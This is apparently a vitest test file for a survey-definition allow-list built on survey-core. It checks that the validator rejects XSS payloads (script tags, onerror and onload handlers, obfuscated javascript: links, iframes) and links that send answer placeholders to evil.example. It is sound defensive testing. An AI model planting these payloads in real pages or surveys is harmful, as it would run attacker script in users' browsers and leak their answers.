import { Serializer } from 'survey-core';
import { describe, expect, it } from 'vitest';
import { CHOICE_PROPS, ELEMENT_PROPS, markupProblems, PAGE_PROPS, SURVEY_PROPS } from '../../src/surveys/allow-list.ts';
import { contentProblems } from '../../src/surveys/definition-content.ts';

describe('the allow-list of definition content', () => {
  it("names only real survey-core properties (checked against survey-core's Serializer)", () => {
    const missing: string[] = [];
    const check = (className: string, props: Record<string, unknown>) => {
      if (!Serializer.findClass(className)) missing.push(`class ${className}`);
      // "type" names the class itself, not a property.
      for (const p of Object.keys(props))
        if (p !== 'type' && !Serializer.findProperty(className, p)) missing.push(`${className}.${p}`);
    };
    check('survey', SURVEY_PROPS);
    check('page', PAGE_PROPS);
    for (const [type, props] of Object.entries(ELEMENT_PROPS)) check(type, props);
    const { isExclusive, ...itemProps } = CHOICE_PROPS;
    check('itemvalue', itemProps);
    check('checkboxitem', { isExclusive });
    expect(missing).toEqual([]);
  });

  it('allows formatting tags and https, mailto and tel links; nothing else', () => {
    expect(markupProblems('<h2>Rubrik</h2><p><strong>a</strong> <em>b</em><br/>{projectName}</p>')).toEqual([]);
    expect(
      markupProblems('<ul><li><a href="https://example.org/x">x</a></li><li><a href="mailto:a@b.se">m</a></li></ul>'),
    ).toEqual([]);
    for (const bad of [
      '<script>alert(1)</script>',
      '<img src=x onerror="alert(1)">',
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<p onclick="alert(1)">x</p>',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="jav&#x61;script:alert(1)">x</a>',
      '<a href="https://evil.example/?q={stod_till_hjalp}">x</a>',
      '<a href=https://evil.example>x</a>',
      '<!-- x --><p>x</p>',
      '<svg onload="alert(1)">',
      '<iframe src="https://evil.example"></iframe>',
      '<p style="display:none">x</p>',
    ])
      expect(markupProblems(bad), bad).not.toEqual([]);
  });

  it('refuses navigation, remote content, preset answers and unknown properties, naming each', () => {
    const problems = contentProblems({
      navigateToUrl: 'https://evil.example/?q={q1}',
      triggers: [{ type: 'setvalue', expression: '1 = 1', setToName: 'q1', setValue: true }],
      completedHtml: '<img src=x onerror=alert(1)>',
      pages: [
        {
          name: 'p1',
          elements: [
            { type: 'dropdown', name: 'q1', choicesByUrl: { url: 'https://evil.example' } },
            { type: 'image', name: 'bild', imageLink: 'https://evil.example/pixel.png' },
            { type: 'text', name: 'q2', defaultValue: 'x', valueName: 'q1' },
          ],
        },
      ],
    }).map((p) => p.message);
    expect(problems.join('\n')).toMatch(/"navigateToUrl" i enkäten är inte tillåtet/);
    expect(problems.join('\n')).toMatch(/"triggers" i enkäten är inte tillåtet/);
    expect(problems.join('\n')).toMatch(/"completedHtml" i enkäten får bara vara vanlig text/);
    expect(problems.join('\n')).toMatch(/"choicesByUrl" i frågan "q1" är inte tillåtet: det hämtar svarsalternativ/);
    expect(problems.join('\n')).toMatch(/Frågetypen "image" \("bild"\) är inte tillåten/);
    expect(problems.join('\n')).toMatch(/"defaultValue" i frågan "q2"/);
    expect(problems.join('\n')).toMatch(/"valueName" i frågan "q2"/);
    // Plain text on the complete page is fine.
    expect(contentProblems({ completedHtml: { sv: 'Tack!', en: 'Thanks!' }, elements: [] })).toEqual([]);
  });
});
